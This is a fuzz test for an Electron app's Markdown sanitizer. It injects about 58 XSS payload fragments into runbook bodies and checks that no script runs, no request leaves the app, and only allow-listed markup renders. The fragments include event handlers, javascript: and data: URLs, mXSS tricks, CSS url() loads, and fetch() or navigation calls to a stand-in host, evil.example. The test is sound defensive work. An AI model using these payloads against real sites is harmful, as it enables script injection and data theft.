/**
 * Fuzz (issue #8): hostile Markdown and HTML in runbook bodies, rendered by the real window through
 * the browser host. Catalog pages are written elsewhere, so a body may hold anything: script tags,
 * event handlers, javascript: and data: URLs (plain, entity-encoded, mixed case, reference-style),
 * remote images, iframes (src and srcdoc), SVG with scripts, handlers and remote references, MathML
 * and noscript mutation tricks, CSS url() and @import, meta refresh, base, form, object, embed, link
 * rel=prefetch, ping, srcset… each inside a paragraph, list item, table cell, heading, blockquote,
 * link text or code.
 *
 * About 50 bodies are generated with fast-check from a fixed seed (LIFEBOAT_FUZZ_SEED changes it,
 * LIFEBOAT_FUZZ_RUNS scales the count): every payload fragment appears in at least two bodies, in
 * contexts fast-check picks. Each body is created as a runbook through the engine
 * (`app.vault.current()`, `createRecord`), found with the search box and opened in the Library; then:
 * - no script ran: `window.__pwned`, which every payload would set, stays undefined, and no dialog
 *   (alert, confirm, prompt, print) opened;
 * - nothing left the app: no new request to any other origin (harness `foreignRequests`), no CSP
 *   violation was even attempted (the sanitizer, not the CSP behind it, stopped everything), and the
 *   page did not navigate;
 * - what was rendered is only the sanitizer's allow-list: the rendered Markdown holds only its tags
 *   and its three attributes (class, title, start) — no href, src, style or on* anywhere in it —
 *   plus, on a code block only, the three the renderer adds after sanitising so the keyboard can
 *   scroll it (tabindex="0", role="group", aria-label="Code block"), with exactly those values.
 * A failure names the body (its index, its fragments, the seed) so it can be replayed.
 */
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createVault } from '../../electron/vault/vault-open.js';
import { createRecord } from '../../electron/vault/records/vault-records.js';
import { tempVaultDir } from '../support/test-vault.js';
import { startApp, type TestApp } from './harness.js';

const SEED = Number(process.env['LIFEBOAT_FUZZ_SEED'] ?? 8008);
const BODIES = Math.max(1, Math.round(50 * Number(process.env['LIFEBOAT_FUZZ_RUNS'] ?? 1)));
const PASS = 'markdown fuzz passphrase';
const EVIL = 'https://evil.example';

/** What a payload does when it runs: every one sets window.__pwned; some also try to be seen. */
type Action = 'flag' | 'alert' | 'fetch' | 'navigate';

function act(marker: string, action: Action): string {
  const flag = `window.__pwned='${marker}'`;
  switch (action) {
    case 'flag':
      return flag;
    case 'alert':
      return `${flag};alert('${marker}')`;
    case 'fetch':
      return `${flag};fetch('${EVIL}/${marker}')`;
    case 'navigate':
      return `${flag};location='${EVIL}/${marker}'`;
  }
}

const b64 = (text: string): string => Buffer.from(text).toString('base64');
const entities = (text: string): string => Array.from(text, (c) => `&#x${c.charCodeAt(0).toString(16)};`).join('');

/** Payload fragments: (marker, script) → Markdown/HTML. */
const FRAGMENTS: ((m: string, js: string) => string)[] = [
  (_m, js) => `<script>${js}</script>`,
  (_m, js) => `<img src=x onerror="${js}">`,
  (m) => `<img src="${EVIL}/${m}.png">`,
  (_m, js) => `<svg onload="${js}"><circle r="1"/></svg>`,
  (_m, js) => `<svg><script>${js}</script></svg>`,
  (m) => `<iframe src="${EVIL}/${m}"></iframe>`,
  (_m, js) => `<iframe srcdoc="<script>parent.${js.replace(/'/g, '&#39;')}</script>"></iframe>`,
  (_m, js) => `<a href="javascript:${js}">open</a>`,
  (_m, js) => `[open](javascript:${encodeURIComponent(js)})`,
  (_m, js) => `[open](JaVaScRiPt:${encodeURIComponent(js)})`,
  (_m, js) => `[open](&#106;avascript:${encodeURIComponent(js)})`,
  (_m, js) => `[open](${entities('javascript:')}${encodeURIComponent(js)})`,
  (m) => `![diagram](${EVIL}/${m}.png)`,
  (_m, js) => `![diagram](javascript:${encodeURIComponent(js)})`,
  (m) => `<${EVIL}/${m}>`,
  (_m, js) => `[console][ref]\n\n[ref]: javascript:${encodeURIComponent(js)}`,
  (m) => `![logo][img]\n\n[img]: ${EVIL}/${m}.png "title"`,
  (m) => `<div style="background:url(${EVIL}/${m}.png)">styled</div>`,
  (m) => `<style>body{background:url("${EVIL}/${m}.png")}</style>`,
  (m) => `<style>@import '${EVIL}/${m}.css';</style>`,
  (m) => `<span style="--x:url(${EVIL}/${m}.png);background:var(--x)">var</span>`,
  (m) => `<link rel="stylesheet" href="${EVIL}/${m}.css">`,
  (m) => `<link rel="prefetch" href="${EVIL}/${m}">`,
  (m) => `<meta http-equiv="refresh" content="0;url=${EVIL}/${m}">`,
  () => `<base href="${EVIL}/">`,
  (m) => `<form action="${EVIL}/${m}"><button>go</button></form>`,
  (m) => `<object data="${EVIL}/${m}.swf"></object>`,
  (m) => `<embed src="${EVIL}/${m}">`,
  (m, js) => `<video poster="${EVIL}/${m}.png" src=x onerror="${js}"></video>`,
  (_m, js) => `<audio src=x onerror="${js}"></audio>`,
  (_m, js) => `<details open ontoggle="${js}">more</details>`,
  (_m, js) => `<body onload="${js}">`,
  (_m, js) => `<input autofocus onfocus="${js}">`,
  (_m, js) => `<math><mtext><table><mglyph><style><img src=x onerror="${js}">`,
  (_m, js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (_m, js) => `<!--<img src=x onerror=${js}>-->`,
  (_m, js) => `<template><img src=x onerror="${js}"></template>`,
  (_m, js) => `\`<img src=x onerror=${js}>\``,
  (_m, js) => `\`\`\`html\n<script>${js}</script>\n\`\`\``,
  (_m, js) => `    <script>${js}</script>`,
  (_m, js) => `<img src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`)}">`,
  (_m, js) => `[page](data:text/html;base64,${b64(`<script>${js}</script>`)})`,
  (m) => `<a href="${EVIL}/${m}" target="_blank" rel="opener">new window</a>`,
  (m) => `<a ping="${EVIL}/${m}" href="#x">ping</a>`,
  (_m, js) => `<svg><a xlink:href="javascript:${js}"><text y="20">svg link</text></a></svg>`,
  (m) => `<svg><use href="${EVIL}/${m}.svg#x"/></svg>`,
  (m) => `<svg><image href="${EVIL}/${m}.png"/></svg>`,
  (_m, js) => `<svg><animate onbegin="${js}" attributeName="x" dur="1s"/></svg>`,
  (m) => `<img srcset="${EVIL}/${m}.png 1x">`,
  (m) => `<table background="${EVIL}/${m}.png"><tr><td>cell</td></tr></table>`,
  (_m, js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  (_m, js) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (_m, js) => `\u202E<img src=x onerror=${js}>`,
  (_m, js) => `<a href="${entities('javascript:')}${js}">entity link</a>`,
  () => `[basic](vbscript:msgbox(1))`,
  (_m, js) => `<div onmouseover="${js}" onclick="${js}">hover</div>`,
  (_m, js) => `<marquee onstart="${js}">marquee</marquee>`,
  (_m, js) => `<isindex action="javascript:${js}" type=image>`,
];

/** Where a fragment is put: in its own paragraph, or inside other Markdown. */
const CONTEXTS: ((fragment: string) => string)[] = [
  (f) => f,
  (f) => `Before ${f} after.`,
  (f) => `1. Stop writes\n2. ${f}\n3. Restore`,
  (f) => `- ${f}`,
  (f) => `> ${f}`,
  (f) => `## ${f}`,
  (f) => `| step | detail |\n|---|---|\n| 1 | ${f.replace(/\n/g, ' ').replace(/\|/g, '\\|')} |`,
  (f) => `[${f.replace(/\n/g, ' ')}](#anchor)`,
  (f) => `**${f}**`,
  (f) => `<div>\n${f}\n</div>`,
];

interface Body {
  title: string;
  token: string;
  markdown: string;
  /** Fragment numbers, for the failure message. */
  fragments: number[];
}

function bodies(): Body[] {
  const choices = fc.sample(
    fc.record({
      contexts: fc.array(fc.nat({ max: CONTEXTS.length - 1 }), { minLength: 4, maxLength: 4 }),
      actions: fc.array(fc.constantFrom<Action>('flag', 'alert', 'fetch', 'navigate'), { minLength: 4, maxLength: 4 }),
      extra: fc.option(fc.nat({ max: FRAGMENTS.length - 1 }), { nil: undefined }),
    }),
    { seed: SEED, numRuns: BODIES },
  );
  return choices.map((choice, i) => {
    // Three fragments in turn (so each appears in at least two bodies), and maybe one more.
    const fragments = [3 * i, 3 * i + 1, 3 * i + 2].map((n) => n % FRAGMENTS.length);
    if (choice.extra !== undefined) {
      fragments.push(choice.extra);
    }
    const token = `zq${String(i).padStart(3, '0')}x`;
    const parts = fragments.map((n, k) => {
      const marker = `${token}-${n}`;
      const fragment = FRAGMENTS[n]?.(marker, act(marker, choice.actions[k] ?? 'flag')) ?? '';
      return CONTEXTS[choice.contexts[k] ?? 0]?.(fragment) ?? fragment;
    });
    return { title: `Hostile runbook ${token}`, token, markdown: `# Restore ${token}\n\n${parts.join('\n\n')}\n\nThe end.\n`, fragments };
  });
}

const ALLOWED_TAGS = [
  'p',
  'br',
  'hr',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'ul',
  'ol',
  'li',
  'strong',
  'em',
  'code',
  'pre',
  'blockquote',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
  'span',
  's',
];
const ALLOWED_ATTRIBUTES = ['class', 'title', 'start'];
/** What renderMarkdown adds to a <pre> after sanitising (renderer/src/markdown.ts), value for value. */
const CODE_BLOCK_ATTRIBUTES: Record<string, string> = { tabindex: '0', role: 'group', 'aria-label': 'Code block' };
/** The copy button and its wrapper every code block gets (renderer/src/markdown.ts, CODE_COPY_BUTTON), value for value. */
const CODE_COPY_MARKUP: Record<string, Record<string, string>> = {
  div: { class: 'md-code' },
  button: { type: 'button', class: 'md-copy', title: 'Copy this code' },
};

let app: TestApp;
const dialogs: string[] = [];
const all = bodies();

beforeAll(async () => {
  const dir = tempVaultDir();
  const session = await createVault(dir, { owner: 'alice', passphrase: PASS, insecureFastKdf: true, name: 'Markdown fuzz' });
  await session.lock();
  app = await startApp();
  const { page } = app;
  page.on('dialog', (dialog) => {
    dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.getByLabel('Vault folder').fill(dir);
  await page.getByLabel('Member', { exact: true }).fill('alice');
  await page.getByLabel('Passphrase', { exact: true }).fill(PASS);
  await page.getByRole('button', { name: 'Unlock', exact: true }).click();
  await page.getByTestId('search').waitFor();
  for (const body of all) {
    await createRecord(app.vault.current(), { type: 'runbook', title: body.title, data: { body: body.markdown } });
  }
  // Every CSP violation the page sees from now on is kept, so a payload the CSP (not the
  // sanitizer) stopped is still a failure.
  await page.evaluate(() => {
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      w.__violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
}, 120_000);

afterAll(async () => {
  await app.close();
});

describe('hostile Markdown in runbooks', () => {
  it(`renders ${all.length} generated hostile bodies with no script run, no request made, only allowed markup (seed ${SEED})`, async () => {
    const { page } = app;
    const failures: string[] = [];
    expect(new Set(all.flatMap((b) => b.fragments)).size).toBe(Math.min(FRAGMENTS.length, 3 * all.length));
    for (const [i, body] of all.entries()) {
      const requestsBefore = app.foreignRequests.length;
      const dialogsBefore = dialogs.length;
      await page.getByTestId('search').fill(body.token);
      await page.getByTestId('results').locator('.result-title', { hasText: body.title }).click();
      await expect.poll(() => page.locator('#record-title').textContent()).toBe(body.title);
      await page.getByTestId('markdown').waitFor();
      // Give load, error, toggle and focus events (and timers) a moment to fire.
      await page.waitForTimeout(150);
      const seen = await page.evaluate(
        ({ tags, attributes, codeBlock, copyMarkup }) => {
          const w = window as unknown as { __pwned?: unknown; __violations?: string[] };
          const container = document.querySelector('[data-testid="markdown"]');
          const markup: string[] = [];
          for (const element of container?.querySelectorAll('*') ?? []) {
            const tag = element.tagName.toLowerCase();
            // Our own code-block markup, attribute for attribute; a <div> or <button> any other way is not.
            const ours = copyMarkup[tag];
            const isOurs = ours !== undefined && Array.from(element.attributes).every((a) => ours[a.name] === a.value);
            if (!tags.includes(tag) && !isOurs) {
              markup.push(`<${tag}>`);
            }
            for (const attribute of Array.from(element.attributes)) {
              const codeBlockOwn = tag === 'pre' && codeBlock[attribute.name] === attribute.value;
              if (!attributes.includes(attribute.name) && !codeBlockOwn && !isOurs) {
                markup.push(`<${tag} ${attribute.name}>`);
              }
            }
          }
          const violations = w.__violations ?? [];
          const pwned = w.__pwned === undefined ? null : JSON.stringify(w.__pwned);
          // Reset, so a payload that ran is blamed on its own body only.
          w.__violations = [];
          delete w.__pwned;
          return { pwned, markup, violations };
        },
        { tags: ALLOWED_TAGS, attributes: ALLOWED_ATTRIBUTES, codeBlock: CODE_BLOCK_ATTRIBUTES, copyMarkup: CODE_COPY_MARKUP },
      );
      const problems = [
        seen.pwned === null ? '' : `script ran (window.__pwned = ${seen.pwned})`,
        dialogs.length > dialogsBefore ? `a dialog opened: ${dialogs.slice(dialogsBefore).join('; ')}` : '',
        app.foreignRequests.length > requestsBefore ? `requests left the app: ${app.foreignRequests.slice(requestsBefore).join(', ')}` : '',
        seen.violations.length > 0 ? `the CSP had to stop: ${seen.violations.join(', ')}` : '',
        seen.markup.length > 0 ? `markup outside the allow-list: ${[...new Set(seen.markup)].join(' ')}` : '',
        page.url().startsWith(app.baseUrl) ? '' : `the page navigated to ${page.url()}`,
      ].filter((p) => p !== '');
      if (problems.length > 0) {
        failures.push(`body ${i} (fragments ${body.fragments.join(', ')}; LIFEBOAT_FUZZ_SEED=${SEED}): ${problems.join('; ')}\n${body.markdown}`);
      }
    }
    await app.screenshot('markdown-fuzz-last');
    expect(failures).toEqual([]);
    expect(app.consoleErrors.filter((e) => !/Content Security Policy/.test(e))).toEqual([]);
  }, 180_000);
});
